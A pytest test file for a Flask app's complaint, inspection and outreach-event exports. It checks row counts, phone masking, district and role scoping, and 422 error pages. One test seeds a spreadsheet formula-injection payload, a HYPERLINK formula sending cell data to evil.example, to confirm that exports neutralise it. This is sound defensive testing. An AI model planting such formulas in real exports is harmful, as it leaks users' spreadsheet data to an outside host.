"""Exports of complaints, inspections and outreach events (.xlsx and .csv): the rows are the ones an
independent query returns for the same filters, the files read back, phones are masked, formulas are
neutralised, districts and roles are respected, and bad filters get a 422 page rather than a file."""
from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile
from datetime import date, datetime, timedelta, timezone
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest
from flask import render_template_string
from sqlalchemy import text
from sqlmodel import select

from outreach_helpers import make_event, make_user, sign_in
from webapp.campaigns.models import OUTREACH, Campaign
from webapp.complaints import handling, inbox
from webapp.complaints.models import Complaint
from webapp.inspections.models import (ChecklistItem, ChecklistTemplate, Inspection, InspectionFinding,
                                       RectificationOrder, Sample)
from webapp.merchants.models import Merchant
from webapp.reports import export_routes, exports
from webapp.reports.period import Period

UTC = timezone.utc
M = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# ------------------------------------------------------------------------------------------ reading files

def _col(ref: str) -> int:
    letters = re.match(r"[A-Z]+", ref).group(0)
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n - 1


def read_xlsx(data: bytes) -> tuple[list[list], bytes]:
    """The first sheet's rows (strings as text, numbers as floats, empty cells as None) and its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ET.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{M}t")) for si in root.iter(f"{M}si")]
        xml = z.read("xl/worksheets/sheet1.xml")
    rows = []
    for row in ET.fromstring(xml).iter(f"{M}row"):
        cells = {}
        for c in row.iter(f"{M}c"):
            kind, v = c.get("t"), c.find(f"{M}v")
            if kind == "s":
                value = shared[int(v.text)]
            elif kind == "inlineStr":
                value = "".join(t.text or "" for t in c.iter(f"{M}t"))
            elif v is not None:
                value = v.text if kind == "str" else float(v.text)
            else:
                value = None
            cells[_col(c.get("r"))] = value
        rows.append([cells.get(i) for i in range(max(cells) + 1)] if cells else [])
    return rows, xml


def excel_date(serial: float) -> date:
    return date(1899, 12, 30) + timedelta(days=int(serial))


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "the CSV starts with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


def get(client, url, **args):
    return client.get(url, query_string=args)


# -------------------------------------------------------------------------------------------------- data

def _at(day: date, hour: int = 2) -> datetime:
    """UTC time of a given hour of a local (Shanghai) day; hour 2 UTC is 10:00 local."""
    return datetime(day.year, day.month, day.day, hour, 0, tzinfo=UTC)


def _complaint(session, make_complaint, base_data, merchant, received: datetime, **form):
    c = make_complaint(merchant_id=str(merchant.id), merchant_name=merchant.name, merchant_address=merchant.address,
                       district_id=str(merchant.district_id), **form)
    c.received_at = received
    session.add(c)
    session.commit()
    return c


@pytest.fixture
def seeded(session, base_data, make_complaint):
    """Complaints in 城东区 (CD) and 城西区 (CX), in 2026 and 2025; one resolved with money and rated."""
    cd = [m for m in base_data.merchants if m.district_id == base_data.districts["CD"].id]
    cx = [m for m in base_data.merchants if m.district_id == base_data.districts["CX"].id]
    handler = base_data.users["handler"]
    made = {
        "cd1": _complaint(session, make_complaint, base_data, cd[0], _at(date(2026, 3, 10)), consumer_phone="13800000001"),
        "cd2": _complaint(session, make_complaint, base_data, cd[1], _at(date(2026, 6, 1)),
                          category_id=str(base_data.categories["prepaid"].id), problem_type="contract"),
        # 2026-03-31 20:30 UTC is already 1 April in Shanghai.
        "cd3": _complaint(session, make_complaint, base_data, cd[2], datetime(2026, 3, 31, 20, 30, tzinfo=UTC)),
        "cx1": _complaint(session, make_complaint, base_data, cx[0], _at(date(2026, 2, 3))),
        "cx2": _complaint(session, make_complaint, base_data, cx[1], _at(date(2026, 9, 9))),
        "old": _complaint(session, make_complaint, base_data, cd[0], _at(date(2025, 12, 31))),
    }
    c = made["cd1"]
    handling.accept(session, handler, c, c.version)
    handling.assign(session, handler, c, c.version, handler)
    handling.resolve(session, handler, c, c.version, "退款并赔偿", 12345)
    handling.close(session, handler, c, c.version)
    handling.follow_up(session, handler, c, c.version, 5, "满意")
    session.commit()
    return made


def codes_sql(session, start: date, end: date, district_id: int | None = None) -> set[str]:
    """The independent count: plain SQL over the complaint table."""
    sql = "SELECT tracking_code FROM complaint WHERE received_on >= :s AND received_on <= :e"
    params = {"s": start, "e": end}
    if district_id is not None:
        sql += " AND district_id = :d"
        params["d"] = district_id
    return {r[0] for r in session.execute(text(sql), params)}


# ------------------------------------------------------------------------------------------- complaints

def test_complaints_xlsx_has_the_period_rows_with_readable_values(client, session, base_data, seeded, login_as):
    client.set_cookie("lang", "en")
    login_as("supervisor")
    response = get(client, "/reports/export/complaints.xlsx", period="year", year="2026")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    rows, xml = read_xlsx(response.data)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Tracking code", "Received on", "District", "Merchant"]
    expected = codes_sql(session, date(2026, 1, 1), date(2026, 12, 31))
    assert len(body) == len(expected) == 5
    assert {r[0] for r in body} == expected
    by_code = {r[0]: dict(zip(header, r)) for r in body}
    cd1 = by_code[seeded["cd1"].tracking_code]
    assert excel_date(cd1["Received on"]) == date(2026, 3, 10)
    assert cd1["District"] == "Chengdong District"
    assert cd1["Goods or service"] == "Food"
    assert cd1["Kind of problem"] == "Quality problem"
    assert cd1["State"] == "Closed" and cd1["Outcome"] == "Resolved by mediation"
    assert cd1["Money recovered (yuan)"] == pytest.approx(123.45)
    assert cd1["Satisfaction"] == 5 and cd1["On time"] == "Yes"
    assert cd1["Mobile number"] == "138****0001"
    assert excel_date(cd1["Accepted on"]) == _local_day(seeded["cd1"].accepted_at)
    assert by_code[seeded["cd2"].tracking_code]["Kind of problem"] == "Contract or prepaid card dispute"
    assert by_code[seeded["cd3"].tracking_code]["Received on"] and \
        excel_date(by_code[seeded["cd3"].tracking_code]["Received on"]) == date(2026, 4, 1)
    # Bold frozen header, autofilter, a date and a money format, no formula anywhere.
    assert b'ySplit="1"' in xml and b"<autoFilter" in xml and b"<f>" not in xml
    with zipfile.ZipFile(io.BytesIO(response.data)) as z:
        styles = z.read("xl/styles.xml")
    assert b"<b/>" in styles and b'formatCode="yyyy-mm-dd"' in styles and b'formatCode="0.00"' in styles


def test_complaints_csv_has_a_bom_parses_and_masks_phones(client, session, base_data, seeded, login_as):
    client.set_cookie("lang", "en")
    login_as("supervisor")
    response = get(client, "/reports/export/complaints.csv", period="quarter", year="2026", quarter="1")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "charset=utf-8" in response.content_type
    rows = read_csv(response.data)
    header, body = rows[0], rows[1:]
    expected = codes_sql(session, date(2026, 1, 1), date(2026, 3, 31))
    assert {r[0] for r in body} == expected and len(body) == 2    # cd3 is 1 April local time
    cd1 = dict(zip(header, next(r for r in body if r[0] == seeded["cd1"].tracking_code)))
    assert cd1["Received on"] == "2026-03-10" and cd1["Money recovered (yuan)"] == "123.45"
    assert cd1["Mobile number"] == "138****0001"
    cx1 = dict(zip(header, next(r for r in body if r[0] == seeded["cx1"].tracking_code)))
    assert cx1["Mobile number"] == "139****5678" and cx1["Money recovered (yuan)"] == ""
    assert b"13912345678" not in response.data and b"13800000001" not in response.data


def test_complaints_in_chinese_with_utf8_filename(client, session, base_data, seeded, login_as):
    login_as("supervisor")
    response = get(client, "/reports/export/complaints.xlsx", period="year", year="2026")
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert 'filename="complaints-2026.xlsx"' in disposition
    assert "filename*=UTF-8''" + quote("投诉-2026年.xlsx") in disposition
    assert response.headers["Cache-Control"] == "no-store"
    rows, _xml = read_xlsx(response.data)
    assert rows[0][0] == "投诉单号"                # the header in the UI language
    assert "城东区" in {r[2] for r in rows[1:]}
    csv_response = get(client, "/reports/export/complaints.csv", period="year", year="2026", district="CX")
    assert "filename*=UTF-8''" + quote("投诉-城西区-2026年.csv") in csv_response.headers["Content-Disposition"]
    assert 'filename="complaints-CX-2026.csv"' in csv_response.headers["Content-Disposition"]


def test_no_period_exports_what_the_inbox_lists(client, session, base_data, seeded, login_as):
    """From the inbox (no period arguments) the export has the inbox's rows, with its filters."""
    login_as("handler")
    response = get(client, "/reports/export/complaints.csv")
    body = read_csv(response.data)[1:]
    cd = base_data.districts["CD"].id
    expected = {r[0] for r in session.execute(text("SELECT tracking_code FROM complaint WHERE district_id = :d"),
                                              {"d": cd})}
    assert {r[0] for r in body} == expected and len(body) == 4
    filtered = read_csv(get(client, "/reports/export/complaints.csv", state="closed").data)[1:]
    assert [r[0] for r in filtered] == [seeded["cd1"].tracking_code]
    category = base_data.categories["prepaid"].id
    by_category = read_csv(get(client, "/reports/export/complaints.csv", category_id=str(category)).data)[1:]
    assert [r[0] for r in by_category] == [seeded["cd2"].tracking_code]
    merchant = seeded["cd3"]
    name = session.get(Merchant, merchant.merchant_id).name
    by_merchant = read_csv(get(client, "/reports/export/complaints.csv", merchant=name[:3]).data)[1:]
    assert seeded["cd3"].tracking_code in {r[0] for r in by_merchant}
    # The inbox's own query agrees (same filters, same user).
    user = base_data.users["handler"]
    page = inbox.inbox(session, user, inbox.Filters(state="closed"), date(2026, 11, 22))
    assert page.total == len(filtered)


def test_formula_injection_is_neutralised(client, session, base_data, seeded, login_as):
    merchant = session.get(Merchant, seeded["cx1"].merchant_id)
    merchant.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    session.add(merchant)
    complaint = session.get(Complaint, seeded["cx1"].id)
    complaint.consumer_name = "-2+3"
    session.add(complaint)
    session.commit()
    login_as("supervisor")
    rows = read_csv(get(client, "/reports/export/complaints.csv", period="year", year="2026").data)
    row = next(r for r in rows if r[0] == seeded["cx1"].tracking_code)
    assert row[3] == "'" + merchant.name
    assert row[15] == "'-2+3"
    xlsx_rows, xml = read_xlsx(get(client, "/reports/export/complaints.xlsx", period="year", year="2026").data)
    row = next(r for r in xlsx_rows if r[0] == seeded["cx1"].tracking_code)
    assert row[3] == merchant.name and row[15] == "-2+3"      # text cells, as typed
    assert b"<f>" not in xml and b"<f " not in xml            # and no formula at all


def test_district_scoping(client, session, base_data, seeded, login_as):
    cd, cx = base_data.districts["CD"], base_data.districts["CX"]
    login_as("handler")                                       # a 城东区 handler
    body = read_csv(get(client, "/reports/export/complaints.csv", period="year", year="2026").data)[1:]
    assert {r[0] for r in body} == codes_sql(session, date(2026, 1, 1), date(2026, 12, 31), cd.id)
    assert get(client, "/reports/export/complaints.csv", period="year", year="2026", district="CX").status_code == 403
    assert get(client, "/reports/export/complaints.csv", district_id=str(cx.id)).status_code == 403
    assert get(client, "/reports/export/events.csv", district="CX").status_code == 403
    client.post("/logout")
    sign_in(client, make_user(session, base_data, "supervisor", "CX"))
    body = read_csv(get(client, "/reports/export/complaints.csv", period="year", year="2026").data)[1:]
    assert {r[0] for r in body} == codes_sql(session, date(2026, 1, 1), date(2026, 12, 31), cx.id)
    assert get(client, "/reports/export/inspections.csv", district="CD").status_code == 403
    client.post("/logout")
    login_as("supervisor")                                    # city level: any district, on request
    body = read_csv(get(client, "/reports/export/complaints.csv", period="year", year="2026", district="CX").data)
    assert {r[0] for r in body[1:]} == codes_sql(session, date(2026, 1, 1), date(2026, 12, 31), cx.id)
    assert get(client, "/reports/export/complaints.csv", district="XX").status_code == 422


@pytest.mark.parametrize("role, allowed", [
    ("consumer", set()), ("volunteer", set()), ("inspector", {"inspections", "events"}),
    ("handler", {"complaints", "inspections", "events"}), ("supervisor", {"complaints", "inspections", "events"}),
    ("admin", {"events"}),   # accounts, not cases: an admin never opens a complaint or an inspection
])
def test_roles(client, base_data, login_as, role, allowed):
    login_as(role)
    for kind in ("complaints", "inspections", "events"):
        for fmt in ("xlsx", "csv"):
            status = get(client, f"/reports/export/{kind}.{fmt}").status_code
            assert status == (200 if kind in allowed else 403), (kind, fmt, status)


def test_anonymous_goes_to_login(client, base_data):
    response = get(client, "/reports/export/complaints.xlsx")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


@pytest.mark.parametrize("url, args, words", [
    ("complaints.xlsx", {"period": "custom", "start": "2026-05-01", "end": "2026-04-01"}, "ends before it starts"),
    ("complaints.csv", {"period": "fortnight"}, "choose one of the options"),
    ("complaints.csv", {"state": "lost"}, "choose one of the options"),
    ("inspections.xlsx", {"result": "maybe"}, "choose one of the options"),
    ("inspections.csv", {"period": "month", "year": "2026", "month": "13"}, "from 1 to 12"),
    ("events.csv", {"venue_type": "moon"}, "choose one of the options"),
    ("events.xlsx", {"from": "2026-05-01", "to": "2026-04-01"}, "ends before it starts"),
    ("events.csv", {"from": "yesterday"}, "valid date"),
])
def test_bad_filters_get_a_422_page(client, base_data, login_as, url, args, words):
    client.set_cookie("lang", "en")
    login_as("supervisor")
    response = get(client, f"/reports/export/{url}", **args)
    assert response.status_code == 422
    assert response.mimetype == "text/html" and "Content-Disposition" not in response.headers
    assert words in response.get_data(as_text=True)


def test_too_many_rows_is_refused(client, base_data, seeded, login_as, monkeypatch):
    client.set_cookie("lang", "en")
    monkeypatch.setattr(exports, "MAX_ROWS", 3)
    login_as("supervisor")
    response = get(client, "/reports/export/complaints.xlsx")
    assert response.status_code == 422 and "narrow the filters" in response.get_data(as_text=True)
    assert get(client, "/reports/export/complaints.csv", district="CX").status_code == 200


def test_rows_beyond_the_cap_are_cut_with_a_note(app, session, base_data, seeded, monkeypatch):
    """Rows that arrive between the count and the export: the file stops at the cap and says so."""
    monkeypatch.setattr(exports, "MAX_ROWS", 2)
    with app.test_request_context("/?lang=en"):
        export = exports.complaints(session, base_data.users["supervisor"], inbox.Filters(), None, None,
                                    date(2026, 11, 22), "en")
        rows = read_csv(b"".join(exports.csv_chunks(export)))
        assert len(rows) == 1 + 2 + 1 and "stopped at 2 rows" in rows[-1][0]
        export = exports.complaints(session, base_data.users["supervisor"], inbox.Filters(), None, None,
                                    date(2026, 11, 22), "en")
        buffer = io.BytesIO()
        assert exports.write_xlsx(export, buffer) == 2
        xlsx_rows, _xml = read_xlsx(buffer.getvalue())
        assert len(xlsx_rows) == 4 and "stopped at 2 rows" in xlsx_rows[-1][0]


def test_mask_phone_and_safe_text():
    assert exports.mask_phone("13800000001") == "138****0001"
    assert exports.mask_phone("") == "" and exports.mask_phone("12345") == "*****"
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert exports.safe_text(bad) == "'" + bad
    assert exports.safe_text("华联超市") == "华联超市"


# ------------------------------------------------------------------------------------------ inspections

def add_inspection(session, base_data, merchant, captured_at, result="pass", fails=0, samples=0, orders=0,
                   officers=2, inspector=None) -> Inspection:
    """An inspection row with `fails` failed findings, `samples` samples and `orders` orders."""
    template = session.exec(select(ChecklistTemplate).where(ChecklistTemplate.code == "food")).one()
    items = session.exec(select(ChecklistItem).where(ChecklistItem.template_id == template.id)
                         .order_by(ChecklistItem.position)).all()
    inspection = Inspection(client_uuid=str(uuid.uuid4()), body_sha256="0" * 64, merchant_id=merchant.id,
                            template_id=template.id, district_id=merchant.district_id,
                            inspector_id=(inspector or base_data.users["inspector"]).id, inspector_count=officers,
                            result=result, captured_at=captured_at)
    session.add(inspection)
    session.flush()
    for n, item in enumerate(items):
        session.add(InspectionFinding(inspection_id=inspection.id, item_id=item.id,
                                      answer="fail" if n < fails else "pass"))
    for n in range(samples):
        session.add(Sample(inspection_id=inspection.id, product=f"样品{n}"))
    for _n in range(orders):
        session.add(RectificationOrder(inspection_id=inspection.id, merchant_id=merchant.id,
                                       item_ids=[items[0].id], due_on=captured_at.date() + timedelta(days=7)))
    session.commit()
    return inspection


@pytest.fixture
def inspected(session, base_data):
    cd = [m for m in base_data.merchants if m.district_id == base_data.districts["CD"].id]
    cx = [m for m in base_data.merchants if m.district_id == base_data.districts["CX"].id]
    return [
        add_inspection(session, base_data, cd[0], _at(date(2026, 4, 2)), "fail", fails=2, samples=3, orders=1),
        # 2026-03-31 17:00 UTC: 1 April in Shanghai.
        add_inspection(session, base_data, cd[1], datetime(2026, 3, 31, 17, 0, tzinfo=UTC), officers=3),
        add_inspection(session, base_data, cx[0], _at(date(2026, 4, 20)), "fail", fails=1, samples=1),
        add_inspection(session, base_data, cd[0], _at(date(2026, 3, 31)), "pass"),        # March
    ]


def _local_day(moment: datetime) -> date:
    return (moment.replace(tzinfo=UTC) if moment.tzinfo is None else moment).astimezone(
        timezone(timedelta(hours=8))).date()


def test_inspections_export_matches_the_rows(client, session, base_data, inspected, login_as):
    client.set_cookie("lang", "en")
    login_as("supervisor")
    response = get(client, "/reports/export/inspections.xlsx", period="month", year="2026", month="4")
    assert response.status_code == 200
    rows, _xml = read_xlsx(response.data)
    header, body = rows[0], rows[1:]
    assert header == ["Date", "District", "Merchant", "Inspector", "Officers on this visit", "Result",
                      "Failed items", "Samples taken", "Rectification orders"]
    # Independently: every inspection whose local day is in April, with its counts.
    all_rows = session.exec(select(Inspection)).all()
    april = sorted((i for i in all_rows if date(2026, 4, 1) <= _local_day(i.captured_at) <= date(2026, 4, 30)),
                   key=lambda i: (i.captured_at.replace(tzinfo=None), i.id))
    assert len(body) == len(april) == 3

    def counted(model, inspection_id, *extra):
        sql = f"SELECT COUNT(*) FROM {model} WHERE inspection_id = :i" + "".join(f" AND {e}" for e in extra)
        return session.execute(text(sql), {"i": inspection_id}).scalar()

    for row, inspection in zip(body, april):
        assert excel_date(row[0]) == _local_day(inspection.captured_at)
        assert row[4] == inspection.inspector_count
        assert row[6] == counted("inspectionfinding", inspection.id, "answer = 'fail'")
        assert row[7] == counted("sample", inspection.id) and row[8] == counted("rectificationorder", inspection.id)
    first = body[0]
    assert first[1] == "Chengdong District" and first[3] == base_data.users["inspector"].display_name
    assert first[5] == "No problems found" and first[4] == 3
    failed = read_csv(get(client, "/reports/export/inspections.csv", period="month", year="2026", month="4",
                          result="fail").data)
    assert [r[5] for r in failed[1:]] == ["Problems found", "Problems found"]
    assert [r[6] for r in failed[1:]] == ["2", "1"]
    own = read_csv(get(client, "/reports/export/inspections.csv", period="year", year="2026", district="CX").data)
    assert [r[1] for r in own[1:]] == ["Chengxi District"]


def test_an_inspector_exports_only_their_district(client, session, base_data, inspected, login_as):
    client.set_cookie("lang", "en")
    login_as("inspector")                                     # 城东区
    rows = read_csv(get(client, "/reports/export/inspections.csv", period="year", year="2026").data)[1:]
    expected = session.execute(text("SELECT COUNT(*) FROM inspection WHERE district_id = :d"),
                               {"d": base_data.districts["CD"].id}).scalar()
    assert len(rows) == expected == 3 and {r[1] for r in rows} == {"Chengdong District"}


# ------------------------------------------------------------------------------------------------ events

def test_events_export_matches_the_rows(client, session, base_data, make_complaint, login_as):
    client.set_cookie("lang", "en")
    campaign = Campaign(kind=OUTREACH, name="2026年3·15", starts_on=date(2026, 3, 1), ends_on=date(2026, 3, 31))
    session.add(campaign)
    session.commit()
    handler = base_data.users["handler"]
    e1 = make_event(session, base_data, held_on=date(2026, 3, 15), campaign_id=campaign.id, venue_type="market",
                    place="=1+2 广场")
    e2 = make_event(session, base_data, recorder=handler, held_on=date(2026, 3, 20), venue_type="school",
                    participants=300, leaflets=1000)
    make_event(session, base_data, held_on=date(2026, 5, 1))
    complaint = make_complaint()
    complaint.event_id = e2.id
    session.add(complaint)
    session.commit()
    login_as("supervisor")
    response = get(client, "/reports/export/events.xlsx", period="quarter", year="2026", quarter="1")
    rows, _xml = read_xlsx(response.data)
    header, body = rows[0], rows[1:]
    assert header[:4] == ["Date", "District", "Campaign", "Venue type"] and header[-1] == "On-site complaints"
    expected = session.execute(text("SELECT id, participants, leaflets FROM outreachevent "
                                    "WHERE held_on >= :s AND held_on <= :e ORDER BY held_on, id"),
                               {"s": date(2026, 1, 1), "e": date(2026, 3, 31)}).all()
    assert len(body) == len(expected) == 2
    assert [r[6] for r in body] == [e[1] for e in expected] and [r[8] for r in body] == [e[2] for e in expected]
    assert excel_date(body[0][0]) == date(2026, 3, 15) and body[0][2] == "2026年3·15"
    assert body[0][3] == "In a mall or market" and body[0][4] == "=1+2 广场"
    assert body[1][1] == "Chengdong District" and body[1][3] == "In a school" and body[1][-1] == 1
    csv_rows = read_csv(get(client, "/reports/export/events.csv", **{"from": "2026-03-16", "to": "2026-12-31"}).data)
    assert [r[0] for r in csv_rows[1:]] == ["2026-03-20", "2026-05-01"]
    campaign_rows = read_csv(get(client, "/reports/export/events.csv", campaign_id=str(campaign.id)).data)[1:]
    assert len(campaign_rows) == 1 and campaign_rows[0][4] == "'=1+2 广场"
    venue_rows = read_csv(get(client, "/reports/export/events.csv", venue_type="school").data)[1:]
    assert [r[0] for r in venue_rows] == [e2.held_on.isoformat()]
    assert e1.id


# -------------------------------------------------------------------------------------- links and names

def test_filenames_and_period_tags(base_data):
    cd = base_data.districts["CD"]
    assert export_routes.filenames("complaints", Period.year(2026), None, "xlsx", "zh") == (
        "投诉-2026年.xlsx", "complaints-2026.xlsx")
    assert export_routes.filenames("events", Period.quarter(2026, 1), cd, "csv", "zh") == (
        "宣传活动-城东区-2026年第一季度.csv", "outreach-events-CD-2026-Q1.csv")
    assert export_routes.filenames("inspections", Period.month(2026, 3), None, "csv", "en") == (
        "inspections-2026-03.csv", "inspections-2026-03.csv")
    assert export_routes.filenames("complaints", None, None, "xlsx", "en")[0] == "complaints-all.xlsx"
    custom = Period("custom", date(2026, 1, 5), date(2026, 2, 1))
    assert export_routes.filenames("complaints", custom, None, "csv", "en")[0] == "complaints-2026-01-05_2026-02-01.csv"


def test_export_link_partials(app, base_data):
    """The partials build links with the list's filters, and only for those who may export."""
    from flask_login import login_user
    with app.test_request_context("/"):
        login_user(base_data.users["handler"])
        html = render_template_string('{% include "reports/_export_links_complaints.html" %}',
                                      filters=inbox.Filters(state="open", q="华联", page=3))
        assert "/reports/export/complaints.xlsx?" in html and "state=open" in html and "page=" not in html
        html = render_template_string(
            '{% with export_args={"period": "year", "year": 2026, "district": "CD"} %}'
            '{% include "reports/_export_links_events.html" %}{% endwith %}')
        assert "/reports/export/events.csv?" in html and "district=CD" in html
        html = render_template_string('{% include "reports/_export_links_events.html" %}',
                                      start=date(2026, 1, 1), end=date(2026, 3, 31))
        assert "from=2026-01-01" in html and "to=2026-03-31" in html
        # Handlers read the district's inspections, so they may export them too (inspections/policy.py).
        assert "/reports/export/inspections.xlsx" in render_template_string(
            '{% include "reports/_export_links_inspections.html" %}')
    with app.test_request_context("/"):
        login_user(base_data.users["volunteer"])
        for kind in ("complaints", "inspections", "events"):
            assert render_template_string(f'{{% include "reports/_export_links_{kind}.html" %}}',
                                          filters=inbox.Filters(), start=date(2026, 1, 1),
                                          end=date(2026, 3, 31)).strip() == ""
    with app.test_request_context("/"):
        login_user(base_data.users["inspector"])
        html = render_template_string('{% include "reports/_export_links_inspections.html" %}')
        assert "/reports/export/inspections.xlsx" in html
